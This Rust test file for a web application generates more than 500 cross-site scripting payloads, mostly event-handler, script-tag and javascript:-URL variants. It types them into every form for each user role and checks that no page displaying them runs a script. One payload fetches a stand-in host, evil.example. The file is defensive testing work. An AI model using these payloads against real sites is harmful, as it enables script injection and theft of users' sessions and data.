//! Five hundred texts that try to become scripts go through every text field of every form that anybody can reach, and
//! every page that shows one of them is opened by everybody who can: none ever runs.
//!
//! The forms are found in the pages themselves, so a new one is covered the day it is linked. Each is sent twice: with such
//! a text in every field, numbers and dates too — the refused form shows them again, and is looked at as the sweep looks at
//! pages: the state *refused* —, and with such texts in its free fields only, so that what can be stored is.

use crate::look::{noise, wrong};
use crate::site::{ADMIN, AUDITOR, CONTACT, LEAD, LEARNER, PASSWORD, Site};
use crate::sweep::{SKIPPED, kind};
use serde_json::{Value, json};
use std::collections::{BTreeMap, BTreeSet, VecDeque};
use testkit::browser::Browser;

/// Every way in combined with every way to act; each would leave a mark on the window, open a dialog or ask for an address
/// outside. All carry the word by which the pages that show them are found.
fn texts() -> VecDeque<String> {
    let acts =
        ["window.__ran=1", "alert('__ran')", "top['__ran']=1", "eval('__ran=1')", "fetch('//evil.example/'+(__ran=1))"];
    let mut texts = VecDeque::new();
    for act in acts {
        for tag in [
            "img src=x",
            "svg",
            "body",
            "input autofocus",
            "details open",
            "video src=x",
            "iframe",
            "marquee",
            "select autofocus",
            "audio src=x",
        ] {
            for event in
                ["onerror", "onload", "onfocus", "ontoggle", "onstart", "ONMOUSEOVER", "on\u{200b}load", "onpageshow"]
            {
                texts.push_back(format!("<{tag} {event}=\"{act}\">"));
            }
        }
        for whole in [
            "<script>{}</script>",
            "<ScRiPt>{}</sCrIpT>",
            "<script src=data:text/javascript,{}></script>",
            "</textarea><script>{}</script>",
            "</title><script>{}</script>",
            "\"><script>{}</script>",
            "'><svg onload={}>",
            "\" autofocus onfocus={} x=\"",
            "<a href=\"javascript:{}\">x</a>",
            "[x](javascript:{})",
            "[x](JaVaScRiPt:{})",
            "[x](data:text/html,<script>{}</script>)",
            "![x](x\"onerror=\"{})",
            "<svg><script>{}</script></svg>",
            "<math><mtext><script>{}</script></mtext></math>",
            "<style>@import 'javascript:{}';</style>",
            "<meta http-equiv=refresh content='0;url=javascript:{}'>",
            "<object data='javascript:{}'></object>",
            "<form action='javascript:{}'><button>x</button></form>",
            "<!--<img src='--><img src=x onerror={}>",
            "`<img src=x onerror={}>`",
            "<svg><animate onbegin={} attributeName=x dur=1s>",
            "<a href='&#106;avascript:{}'>x</a>",
            "{{{{{}}}}}",
            "${{{}}}",
        ] {
            texts.push_back(whole.replace("{}", act));
        }
    }
    texts
}

/// The forms of a page that have something to type, each with its address and the room in its text fields. Free fields are
/// those that take any text; the others want a number, a date, an address.
const FORMS: &str = "return [...document.querySelectorAll('main form')].map((form, at) => ({at,
    action: (form.getAttribute('method') || 'get') + ' ' + new URL(form.getAttribute('action') || '', location.href).pathname,
    fields: [...form.elements].filter(one => one.name && (one.tagName === 'TEXTAREA' || (one.tagName === 'INPUT'
        && ['text', 'search', 'email', 'tel', 'url', 'password', 'number'].includes(one.type)))).map(one => ({name: one.name,
        free: one.tagName === 'TEXTAREA' || (['text', 'search'].includes(one.type) && !one.inputMode && !one.classList.contains('date')
            && !one.classList.contains('n') && !/code|email|token|url|yen|seats|on$/.test(one.name)),
        room: one.maxLength > 0 ? one.maxLength : (one.tagName === 'TEXTAREA' ? 900 : 90)}))})).filter(form => form.fields.length);";

/// Fills a form and sends it: texts by the names of fields, something sensible wherever else something is missing.
const SEND: &str = "const [at, texts, sensible] = arguments;
    const form = document.querySelectorAll('main form')[at];
    form.noValidate = true;
    for (const one of form.elements) {
        if (one.name in texts && 'value' in one && one.type !== 'hidden') one.value = texts[one.name];
        else if (sensible && one.tagName === 'SELECT' && !one.value) one.selectedIndex = Math.min(1, one.options.length - 1);
        else if (sensible && one.type === 'radio' && !form.querySelector(`[name=\"${one.name}\"]:checked`)) one.checked = true;
        else if (sensible && one.type === 'checkbox' && !one.checked) one.checked = true;
        else if (sensible && !one.value && one.tagName === 'INPUT') {
            if (one.classList.contains('date') || /on$/.test(one.name)) one.value = sensible.day;
            else if (one.type === 'email' || /email/.test(one.name)) one.value = sensible.email;
            else if (one.type === 'password') one.value = sensible.password;
            else if (['text', 'number'].includes(one.type)) one.value = '1';
        }
    }
    const button = form.querySelector('button:not([type=button]):not([formnovalidate])') || form.querySelector('button');
    if (button) HTMLFormElement.prototype.requestSubmit.call(form, button); else HTMLFormElement.prototype.submit.call(form);";

/// Scripts, handlers and frames that no page of ours has.
const BORN: &str = "const found = [];
    if (typeof window.__ran !== 'undefined') found.push('a script ran');
    for (const one of document.scripts) if (!one.src.startsWith(location.origin + '/assets/') || one.textContent.trim()) found.push('a script element');
    for (const one of document.querySelectorAll('iframe, object, embed, base, style, marquee, audio, video, math, meta[http-equiv], animate'))
        found.push('an element ' + one.tagName);
    for (const one of document.querySelectorAll('*')) for (const a of one.attributes) {
        if (/^on/i.test(a.name)) found.push('a handler ' + a.name + ' of ' + one.tagName);
        if (/^(href|src|action|formaction|xlink:href|data)$/i.test(a.name) && /^\\s*(javascript|data|vbscript):/i.test(a.value)
            && !(one.tagName === 'IMG' || one.tagName === 'LINK')) found.push('an address ' + a.value.slice(0, 40));
    }
    return found;";

/// What a text did to the page that shows it; an empty list when it is shown and nothing more.
fn harm(browser: &Browser, site: &Site) -> Vec<String> {
    let mut found = Vec::new();
    if browser.dialog() {
        found.push("a dialog".to_owned());
    }
    let born = browser.run(BORN, Vec::new());
    found.extend(born.as_array().into_iter().flatten().filter_map(Value::as_str).map(str::to_owned));
    found.extend(noise(browser, site));
    found
}

/// What somebody reaches by links, without a browser: address by address, so many of a kind, with what each page says.
fn reach(site: &Site, email: Option<&str>, of_a_kind: usize) -> Vec<(String, String)> {
    let anonymous = testkit::pages::Browser::at(&site.base);
    let desk = email.map_or(anonymous, |email| site.desk(email));
    let first: &[&str] = if email.is_some() {
        &["/"]
    } else {
        &["/sign-in", "/invitations", "/password-reset", "/password-resets", "/bootstrap", "/acknowledgements", "/help"]
    };
    let mut queue: VecDeque<String> = first.iter().map(|path| (*path).to_owned()).collect();
    let (mut seen, mut kinds) = (BTreeSet::new(), BTreeMap::<String, usize>::new());
    let mut pages = Vec::new();
    while let Some(link) = queue.pop_front() {
        let count = kinds.entry(kind(&link)).or_default();
        *count += 1;
        if *count > of_a_kind {
            continue;
        }
        let answer = desk.get(&link);
        if answer.status != 200 || !answer.headers["content-type"].starts_with("text/html") {
            continue;
        }
        for part in answer.text.split("href=\"").skip(1) {
            let next = part.split('"').next().unwrap_or_default().replace("&amp;", "&").replace("&#38;", "&");
            let next = next.split('#').next().unwrap_or_default().to_owned();
            let ours = next.starts_with('/') && SKIPPED.iter().all(|skipped| !next.starts_with(skipped));
            if ours && !next.contains("/export") && seen.insert(next.clone()) {
                queue.push_back(next);
            }
        }
        pages.push((link, answer.text));
    }
    pages
}

struct Walk<'a> {
    site: &'a Site,
    browser: &'a Browser,
    texts: VecDeque<String>,
    used: BTreeSet<String>,
    /// Sessions of the browser, by address.
    cookies: BTreeMap<&'static str, String>,
    /// Forms that were sent, by role and address.
    sent: BTreeSet<String>,
    found: Vec<String>,
    number: usize,
}

impl Walk<'_> {
    /// The browser belongs to somebody now. Everybody signed in before anything was typed: texts in fields for passwords
    /// count as guesses, and close the door for a while.
    fn act_for(&self, email: Option<&str>) {
        self.browser.forget();
        self.browser.open(&self.site.url("/help"));
        if let Some(cookie) = email.and_then(|email| self.cookies.get(email)) {
            let _set = self.browser.run("document.cookie = arguments[0] + '; path=/';", vec![json!(cookie)]);
            self.browser.open(&self.site.url("/"));
            assert!(self.browser.has("form[action='/sign-out']"), "{email:?}: {}", self.browser.text("main"));
        }
        let _before = noise(self.browser, self.site);
    }

    /// The next text that fits into a field.
    fn next(&mut self, room: usize) -> String {
        let fits = self.texts.iter().position(|text| text.chars().count() <= room);
        let text = match fits.and_then(|at| self.texts.remove(at)) {
            Some(text) => text,
            None => return "<svg onload=__ran=1>".chars().take(room).collect(),
        };
        self.used.insert(text.clone());
        // Round and round: there are more fields than texts, or fewer.
        self.texts.push_back(text.clone());
        text
    }

    /// Sends a form of a page with texts in it; what came of it is looked at.
    fn send(&mut self, page: &str, form: &Value, everywhere: bool) {
        self.browser.open(&self.site.url(page));
        let mut typed = serde_json::Map::new();
        for field in form["fields"].as_array().unwrap() {
            if everywhere || field["free"] == true {
                let room = usize::try_from(field["room"].as_i64().unwrap_or(90)).unwrap_or(90);
                typed.insert(field["name"].as_str().unwrap().to_owned(), json!(self.next(room)));
            }
        }
        self.number += 1;
        let sensible = json!({
            "day": crate::office::in_days(20), "email": format!("ran{}@demo.example.lg.jp", self.number),
            "password": PASSWORD,
        });
        let sensible = if everywhere { Value::Null } else { sensible };
        let at = format!("{page} {}", form["action"].as_str().unwrap());
        self.browser.leave(|browser| {
            let _sent = browser.run(SEND, vec![form["at"].clone(), Value::Object(typed), sensible]);
        });
        self.found.extend(harm(self.browser, self.site).into_iter().map(|one| format!("{at}: {one}")));
        let refused = self.browser.has("#errors");
        if everywhere && refused {
            let faults = wrong(self.browser, self.site, &[1280, 375]);
            self.found.extend(faults.into_iter().map(|one| format!("{at}, refused: {one}")));
        }
        // A page that asks once more: its form carries what was typed.
        if !everywhere && !refused && self.browser.run(ASKED, Vec::new()) == json!(true) {
            self.browser.leave(|browser| {
                let _sent = browser.run("document.querySelector('main form button.primary').click();", Vec::new());
            });
            self.found.extend(harm(self.browser, self.site).into_iter().map(|one| format!("{at}, confirmed: {one}")));
        }
    }

    fn forms(&mut self, role: &str, email: Option<&str>) {
        self.act_for(email);
        for (page, html) in reach(self.site, email, 1) {
            let main = html.split_once("<main").map_or("", |(_, main)| main);
            if !main.contains("<form") {
                continue;
            }
            self.browser.open(&self.site.url(&page));
            let forms = self.browser.run(FORMS, Vec::new()).as_array().cloned().unwrap_or_default();
            for form in forms {
                if self.sent.insert(format!("{role} {}", kind(form["action"].as_str().unwrap()))) {
                    self.send(&page, &form, true);
                    // A new password ends every other session.
                    if form["action"] != "post /me/password" {
                        self.send(&page, &form, false);
                    }
                }
            }
        }
    }

    /// Texts that no field took go into posts, many in each.
    fn rest(&mut self) {
        self.act_for(Some(LEARNER));
        let desk = self.site.desk(LEARNER);
        let write = format!("/consortia/{}/posts/new?kind=knowhow", crate::office::consortium(&desk));
        let left: Vec<String> = self.texts.iter().filter(|text| !self.used.contains(*text)).cloned().collect();
        for some in left.chunks(70) {
            self.browser.open(&self.site.url(&write));
            let form = json!({"title": some[0].chars().take(90).collect::<String>(), "body": some.join("\n\n")});
            let at = "return [...document.querySelectorAll('main form')].findIndex(form => form.elements.body);";
            let at = self.browser.run(at, Vec::new());
            self.browser.leave(|browser| {
                let _sent = browser.run(SEND, vec![at, form, Value::Null]);
            });
            assert!(self.browser.url().contains("/posts/"), "{}", self.browser.text("main"));
            self.found.extend(harm(self.browser, self.site));
            self.used.extend(some.iter().cloned());
        }
    }

    /// Opens every page of somebody that shows one of the texts; how many.
    fn visit(&mut self, role: &str, email: Option<&str>) -> usize {
        let showing: Vec<String> = reach(self.site, email, 4)
            .into_iter()
            .filter(|(_, html)| html.contains("__ran"))
            .map(|(page, _)| page)
            .collect();
        if showing.is_empty() {
            return 0;
        }
        self.act_for(email);
        for page in &showing {
            self.browser.open(&self.site.url(page));
            self.found.extend(harm(self.browser, self.site).into_iter().map(|one| format!("{role} {page}: {one}")));
        }
        showing.len()
    }
}

/// Whether the page asks for a confirmation of what was typed: no field to type in, but what is carried unseen.
const ASKED: &str = "const form = document.querySelector('main form.sheet');
    return !!form && !form.querySelector('input:not([type=hidden]), textarea, select') && !!form.querySelector('button.primary')
        && form.querySelectorAll('input[type=hidden]').length > 3;";

const EVERYBODY: [(&str, Option<&str>); 6] = [
    ("learner", Some(LEARNER)),
    ("contact", Some(CONTACT)),
    ("lead", Some(LEAD)),
    ("admin", Some(ADMIN)),
    ("auditor", Some(AUDITOR)),
    ("nobody", None),
];

#[test]
fn five_hundred_texts_in_every_field_never_become_scripts() {
    let texts = texts();
    let different: BTreeSet<String> = texts.iter().cloned().collect();
    assert!(different.len() >= 500, "{}", different.len());
    let Some(browser) = Browser::start(true, 1280) else { return };
    // The trap itself works: on a page that lets scripts through, the mark is seen.
    browser.open("data:text/html,<svg onload=window.__ran=1>");
    assert_eq!(browser.run("return typeof window.__ran;", Vec::new()), json!("number"));
    let born = browser.run(BORN, Vec::new());
    assert_eq!(born.as_array().map(Vec::len), Some(2), "the mark and the handler: {born}");
    let site = Site::start();
    let mut walk = Walk {
        site: &site,
        browser: &browser,
        texts,
        used: BTreeSet::new(),
        cookies: EVERYBODY.iter().filter_map(|(_, email)| *email).map(|email| (email, site.session(email))).collect(),
        sent: BTreeSet::new(),
        found: Vec::new(),
        number: 0,
    };
    for (_, email) in EVERYBODY {
        email.iter().for_each(|email| drop(site.desk(email)));
    }
    for (role, email) in EVERYBODY {
        walk.forms(role, email);
    }
    walk.rest();
    let mut shown = BTreeMap::new();
    for (role, email) in EVERYBODY {
        shown.insert(role, walk.visit(role, email));
    }
    eprintln!("{} forms, {} texts, shown on {shown:?} pages", walk.sent.len(), walk.used.len());
    assert!(walk.found.is_empty(), "{} faults:\n{}", walk.found.len(), walk.found.join("\n"));
    assert!(walk.used.len() >= 500, "{} texts were typed", walk.used.len());
    assert!(walk.sent.len() > 40, "{:?}", walk.sent);
    assert!(["learner", "contact", "lead", "auditor"].iter().all(|role| shown[role] > 3), "{shown:?}");
}
